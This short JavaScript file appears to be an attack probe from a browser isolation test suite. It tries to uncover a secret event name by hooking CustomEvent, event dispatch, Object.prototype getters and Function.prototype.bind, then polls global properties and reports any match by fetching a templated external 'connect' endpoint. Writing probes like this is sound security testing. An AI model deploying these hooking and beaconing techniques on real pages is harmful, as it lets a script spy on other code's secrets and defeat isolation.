// Tries to read the event's name that only host page and relay know, out of every hook that the language has.
// as: script; ends: finishes; seconds: 0.3
(function () {
  function look(value) {
    if (/^e[0-9a-f]{32}$/.test(String(value))) {
      fetch("/found?the event".replace(/^/, PLACES.connect));
    }
  }
  var PLACES = /*PLACES*/;
  var Original = window.CustomEvent;
  window.CustomEvent = function (name, init) { look(name); return new Original(name, init); };
  ["dispatchEvent", "addEventListener"].forEach(function (name) {
    var original = EventTarget.prototype[name];
    EventTarget.prototype[name] = function (first) { look(first && first.type ? first.type : first); return original.apply(this, arguments); };
  });
  ["bubbles", "cancelable", "composed"].forEach(function (name) {
    Object.defineProperty(Object.prototype, name, { configurable: true, get: function () { look(this.event); } });
  });
  var bind = Function.prototype.bind;
  Function.prototype.bind = function () { look(arguments[0]); return bind.apply(this, arguments); };
  window.setInterval(function () {
    Object.getOwnPropertyNames(window).concat(Object.getOwnPropertyNames(document)).forEach(look);
    if (document.getElementById("launch")) { look(document.getElementById("launch").textContent); }
  }, 50);
})();
